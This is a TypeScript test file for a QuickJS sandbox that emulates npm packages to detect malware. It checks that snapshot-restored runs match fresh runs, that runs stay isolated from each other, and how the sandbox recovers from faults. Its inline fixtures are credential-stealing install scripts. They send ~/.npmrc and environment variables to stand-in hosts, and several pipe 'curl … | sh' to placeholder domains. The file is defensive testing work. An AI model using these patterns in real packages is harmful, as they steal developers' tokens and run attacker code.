/**
 * The memory snapshot (src/emulate/sandbox.ts): a run restored from the snapshot observes exactly what a run in
 * a fresh QuickJS runtime observes, and nothing of one run survives into the next.
 * - Equivalence: inline samples and packages of the recall corpus (inert: they run only inside QuickJS) run
 *   both ways on the same configuration and canaries; the traces must be equal event for event, stacks and all.
 * - Isolation: a global, a prototype change, a pending timer and promise, a module-cache entry of one run are
 *   invisible in the next; a run stopped by the time budget, the memory limit or a stack overflow leaves the
 *   next run correct; the memory after a restore is byte for byte the snapshot.
 * - Faults: a host-level fault poisons the instance and the next load starts over; an unknown module shape
 *   means fresh runtimes only.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeCanaries, PERSONAS } from '../../src/emulate/canaries.js';
import { buildConfig, type EmulationEntry } from '../../src/emulate/persona.js';
import { WALL_FACTOR, WORK_PER_MS } from '../../src/emulate/engine.js';
import { loadedFfiForTests, loadSandbox, restoredExactly, runInSandbox, sandboxReady, simulateUnknownShape, snapshotActive, useSnapshots, type RunOutcome } from '../../src/emulate/sandbox.js';

const corpus = path.resolve(import.meta.dirname, '../../bench/recall/corpus');

beforeAll(async () => {
  await loadSandbox();
}, 60_000);
afterAll(() => useSnapshots(true));

type Persona = (typeof PERSONAS)[number];

function run(files: Map<string, string>, entry: EmulationEntry, persona: Persona, canaries = makeCanaries(), opts: { perRunMs?: number; memoryBytes?: number; manifest?: Record<string, unknown> } = {}): RunOutcome & { cfg: ReturnType<typeof buildConfig> } {
  const manifest = opts.manifest ?? { name: 'snap', version: '1.0.0' };
  const cfg = buildConfig(persona, entry, files, manifest, canaries);
  const perRun = opts.perRunMs ?? 20_000;
  const out = runInSandbox({ cfg, files, esmPackage: manifest.type === 'module', work: perRun * WORK_PER_MS, wallMs: perRun * WALL_FACTOR, memoryBytes: opts.memoryBytes ?? 64 * 1024 * 1024 });
  return { ...out, cfg };
}

function pkg(index: string, extra: Record<string, string> = {}): Map<string, string> {
  return new Map(Object.entries({ 'package.json': '{"name":"snap","version":"1.0.0"}', 'index.js': index, ...extra }));
}

const INLINE: Record<string, { files: Map<string, string>; entry: EmulationEntry; manifest?: Record<string, unknown> }> = {
  stealer: {
    entry: { file: 'index.js', reach: 'install', event: 'postinstall' },
    files: pkg(`const fs = require('fs'), os = require('os'), p = require('path');
      const t = fs.readFileSync(p.join(os.homedir(), '.npmrc'), 'utf8'); const env = JSON.stringify(process.env);
      setTimeout(() => { fetch('https://snap.invalid/x', { method: 'POST', body: Buffer.from(t + env).toString('base64') }); }, 50);
      Promise.resolve().then(() => require('child_process').execSync('curl -s https://snap.invalid/s | sh'));
      if (os.platform() === 'win32') require('child_process').spawn('powershell', ['-c', 'iwr x']);`),
  },
  lazyUnits: {
    entry: { file: 'index.js', reach: 'install', event: 'postinstall' },
    files: pkg(`const c = require('crypto'), z = require('zlib');
      const h = c.createHash('sha256').update('abc').digest('hex'); const g = z.gzipSync(Buffer.from('hello')).toString('base64');
      require('https').get('https://snap.invalid/?' + h + g);`),
  },
  modules: {
    entry: { file: 'index.js', reach: 'load' },
    files: pkg(`const a = require('./lib/a'); module.exports = function () { return a.x; }; eval("require('dns').lookup('evil.invalid', () => {})");`, {
      'lib/a.js': "exports.x = 1; require('fs').writeFileSync(require('os').tmpdir() + '/x.sh', 'curl evil.invalid|sh');",
    }),
  },
  esm: {
    entry: { file: 'index.js', reach: 'install', event: 'postinstall' },
    manifest: { name: 'snap', version: '1.0.0', type: 'module' },
    files: pkg("import fs from 'fs';\nimport os from 'os';\nconst k = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nawait fetch('https://esm.invalid/', { method: 'POST', body: k });\nexport const x = 1;\n"),
  },
  throws: {
    entry: { file: 'index.js', reach: 'install', event: 'install' },
    files: pkg(`require('child_process').exec('whoami'); throw new TypeError('boom');`),
  },
};

/** Up to `n` corpus packages with a package.json and JavaScript, with their first JavaScript files as entries. */
function corpusPackages(n: number): { name: string; files: Map<string, string>; entries: string[] }[] {
  const out: { name: string; files: Map<string, string>; entries: string[] }[] = [];
  for (const group of ['malicious', 'benign']) {
    const dir = path.join(corpus, group);
    if (!fs.existsSync(dir)) continue;
    for (const name of fs.readdirSync(dir).sort()) {
      if (out.length >= n) return out;
      const root = path.join(dir, name);
      const files = new Map<string, string>();
      const walk = (d: string): void => {
        for (const e of fs.readdirSync(d, { withFileTypes: true })) {
          const f = path.join(d, e.name);
          if (e.isDirectory()) walk(f);
          else if (fs.statSync(f).size < 200_000) files.set(path.relative(root, f).split(path.sep).join('/'), fs.readFileSync(f, 'utf8'));
        }
      };
      walk(root);
      const entries = [...files.keys()].filter((f) => /\.(c|m)?js$/.test(f)).sort().slice(0, 2);
      if (files.has('package.json') && entries.length) out.push({ name: `${group}/${name}`, files, entries });
    }
  }
  return out;
}

function both(files: Map<string, string>, entry: EmulationEntry, persona: Persona, manifest?: Record<string, unknown>) {
  const canaries = makeCanaries();
  useSnapshots(false);
  const fresh = run(files, entry, persona, canaries, { manifest });
  useSnapshots(true);
  const snap = run(files, entry, persona, canaries, { manifest });
  expect(snapshotActive()).toBe(true);
  const view = (o: RunOutcome) => ({ status: o.status, error: o.error, truncated: o.truncated, events: o.events });
  return { fresh: view(fresh), snap: view(snap) };
}

describe('runs restored from the snapshot', () => {
  for (const [name, s] of Object.entries(INLINE)) {
    it(`observe the same trace as a fresh runtime: ${name}`, () => {
      for (const persona of PERSONAS) {
        const { fresh, snap } = both(s.files, s.entry, persona, s.manifest);
        expect(fresh.events.length).toBeGreaterThan(0);
        expect(snap).toEqual(fresh);
      }
    });
  }

  it('observe the same traces as a fresh runtime on packages of the recall corpus', () => {
    const pkgs = corpusPackages(30);
    expect(pkgs.length).toBeGreaterThan(10);
    let events = 0;
    for (const p of pkgs) {
      let manifest: Record<string, unknown> = { name: 'x' };
      try {
        manifest = JSON.parse(p.files.get('package.json')!) as Record<string, unknown>;
      } catch {
        /* keep the stand-in */
      }
      for (const file of p.entries) {
        for (const persona of PERSONAS) {
          const { fresh, snap } = both(p.files, { file, reach: 'install', event: 'postinstall' }, persona, manifest);
          events += fresh.events.length;
          expect(snap, `${p.name} ${file} ${persona}`).toEqual(fresh);
        }
      }
    }
    expect(events).toBeGreaterThan(50);
  }, 300_000);
});

describe('nothing of one run survives into the next', () => {
  const probe = pkg(`fetch('https://probe.invalid/?' + [typeof globalThis.leaked, Array.prototype.leaked, Object.keys(require.cache).join(','), typeof globalThis.fired, typeof globalThis.settled].join('|'));`);
  const probeEntry: EmulationEntry = { file: 'index.js', reach: 'install', event: 'postinstall' };
  const seen = (o: RunOutcome) => o.events.filter((e) => e.k === 'net').map((e) => String(e.url ?? JSON.stringify(e))).join(' ');

  it('globals, prototypes, pending timers and promises, the module cache', () => {
    useSnapshots(true);
    const clean = seen(run(probe, probeEntry, 'linux'));
    expect(clean).toContain('probe.invalid');
    const dirty = pkg(`globalThis.leaked = 1; Array.prototype.leaked = 2; Object.prototype.polluted = 3; require('./lib/b');
      setTimeout(function () { globalThis.fired = 1; require('child_process').execSync('echo timer'); }, 1e9);
      new Promise(function () {}).then(function () { globalThis.settled = 1; });
      Promise.resolve().then(function () { return new Promise(function () {}); });`, { 'lib/b.js': 'module.exports = 1;' });
    const r1 = run(dirty, probeEntry, 'linux', makeCanaries(), { perRunMs: 300 });
    expect(snapshotActive()).toBe(true);
    expect(r1.events.length).toBeGreaterThan(0);
    const after = run(probe, probeEntry, 'linux');
    expect(seen(after)).toBe(clean);
    expect(after.events.some((e) => e.k === 'exec')).toBe(false);
    expect(restoredExactly()).toBe(true);
  });

  for (const [name, src, opts, status] of [
    ['the time budget', 'for (;;) {}', { perRunMs: 200 }, 'budget'],
    ['an endless promise chain', 'const f = () => Promise.resolve().then(f); f();', { perRunMs: 200 }, 'budget'],
    // (the first run to hit the limit after a snapshot takes 7-9 s on an idle 2-core machine, the next 0.3 s: with a
    // 10 s budget a loaded machine stopped it at the budget first; the budget is set far past that, so the memory
    // limit is what stops it)
    ['the memory limit', 'globalThis.keep = []; for (;;) globalThis.keep.push(new ArrayBuffer(1e6));', { memoryBytes: 16 * 1024 * 1024, perRunMs: 45_000 }, 'error'],
    ['a stack overflow', 'function f(n) { return f(n + 1) + 1; } f(0);', {}, undefined],
  ] as const) {
    it(`a run stopped by ${name} leaves the next run correct`, () => {
      useSnapshots(true);
      const clean = run(probe, probeEntry, 'linux');
      const bad = run(pkg(`globalThis.leaked = 1; ${src}`), probeEntry, 'linux', makeCanaries(), opts);
      if (status) expect(bad.status).toBe(status);
      expect(sandboxReady()).toBe(true);
      expect(snapshotActive()).toBe(true);
      const next = run(probe, probeEntry, 'linux');
      expect(next.status).toBe('done');
      expect(seen(next)).toBe(seen(clean));
      expect(restoredExactly()).toBe(true);
    });
  }

  it('the memory grown by a run is zeroed again', () => {
    useSnapshots(true);
    run(pkg("globalThis.keep = []; for (let i = 0; i < 300; i++) globalThis.keep.push('y'.repeat(1e5) + i);"), probeEntry, 'linux', makeCanaries(), { memoryBytes: 256 * 1024 * 1024 });
    expect(restoredExactly()).toBe(true);
    expect(run(probe, probeEntry, 'linux').status).toBe('done');
  });
});

describe('the budget is interpreter work, not time', () => {
  // A decode loop that must finish before its payload runs, as a steganographic loader's does.
  const decoder = pkg(`let x = 7; const b = new Uint8Array(4096);
    for (let round = 0; round < 400; round++) for (let i = 0; i < b.length; i++) { x = (x * 31 + i) & 255; b[i] ^= x; }
    require('child_process').execSync('curl https://decoded.invalid/' + x + ' | sh');`);
  const entry: EmulationEntry = { file: 'index.js', reach: 'install', event: 'postinstall' };
  const once = (work: number) => {
    const cfg = buildConfig('linux', entry, decoder, { name: 'snap', version: '1.0.0' }, makeCanaries());
    return runInSandbox({ cfg, files: decoder, esmPackage: false, work, wallMs: 60_000, memoryBytes: 64 * 1024 * 1024 });
  };
  const execs = (o: RunOutcome) => o.events.filter((e) => e.k === 'exec').length;

  it('a run does the same work and reaches the same payload on a quiet machine and on a loaded one', async () => {
    useSnapshots(true);
    const quiet = once(1e9);
    expect(quiet.status).toBe('done');
    expect(execs(quiet)).toBe(1);
    const need = quiet.work;
    expect(need).toBeGreaterThan(10);
    // Every core busy with another process while the same runs are given exactly the work the quiet run did, and half of it.
    const { spawn } = await import('node:child_process');
    const os = await import('node:os');
    const hogs = Array.from({ length: os.availableParallelism() }, () => spawn(process.execPath, ['-e', 'for (;;) {}'], { stdio: 'ignore' }));
    try {
      await new Promise((r) => setTimeout(r, 300));
      for (let i = 0; i < 2; i++) {
        const loaded = once(need);
        expect(loaded.work).toBe(need);
        expect(loaded.status).toBe('done');
        expect(execs(loaded)).toBe(1);
        const short = once(Math.floor(need / 2));
        expect(short.status).toBe('budget');
        expect(short.work).toBe(Math.floor(need / 2));
        expect(execs(short)).toBe(0);
      }
    } finally {
      for (const h of hogs) h.kill('SIGKILL');
    }
  }, 60_000);

  it('the wall clock is only a safety net: a run given endless work still stops at it', () => {
    const cfg = buildConfig('linux', entry, pkg('for (;;) {}'), { name: 'snap', version: '1.0.0' }, makeCanaries());
    const t0 = performance.now();
    const r = runInSandbox({ cfg, files: pkg('for (;;) {}'), esmPackage: false, work: 1e12, wallMs: 150, memoryBytes: 64 * 1024 * 1024 });
    expect(r.status).toBe('budget');
    expect(performance.now() - t0).toBeLessThan(150 + 5000);
  });
});

describe('faults and fallbacks', () => {
  const entry: EmulationEntry = { file: 'index.js', reach: 'install', event: 'postinstall' };
  const files = pkg("require('child_process').execSync('curl https://fault.invalid/ | sh');");
  const execs = (o: RunOutcome) => o.events.filter((e) => e.k === 'exec').length;

  it('a host-level fault poisons the instance; the next load starts over with a new snapshot', async () => {
    useSnapshots(true);
    expect(run(files, entry, 'linux').status).toBe('done');
    expect(snapshotActive()).toBe(true);
    const ffi = loadedFfiForTests()!;
    const call = ffi.QTS_Call as (...a: unknown[]) => unknown;
    ffi.QTS_Call = () => {
      throw new Error('injected trap');
    };
    try {
      const r = run(files, entry, 'linux');
      expect(r.status).toBe('error');
      expect(r.error).toMatch(/sandbox fault: injected trap/);
      expect(sandboxReady()).toBe(false);
      expect(snapshotActive()).toBe(false);
      expect(run(files, entry, 'linux').error).toBe('sandbox not loaded');
    } finally {
      ffi.QTS_Call = call;
    }
    await loadSandbox();
    expect(sandboxReady()).toBe(true);
    const again = run(files, entry, 'linux');
    expect(again.status).toBe('done');
    expect(execs(again)).toBe(1);
    expect(snapshotActive()).toBe(true);
    expect(loadedFfiForTests()).not.toBe(ffi);
  });

  it('a module of unknown shape: no snapshot, every run in a fresh runtime', () => {
    useSnapshots(true);
    simulateUnknownShape(true);
    try {
      const r = run(files, entry, 'linux');
      expect(snapshotActive()).toBe(false);
      expect(r.status).toBe('done');
      expect(execs(r)).toBe(1);
      expect(run(files, entry, 'linux').status).toBe('done');
    } finally {
      simulateUnknownShape(false);
    }
    expect(run(files, entry, 'linux').status).toBe('done');
    expect(snapshotActive()).toBe(true);
  });
});
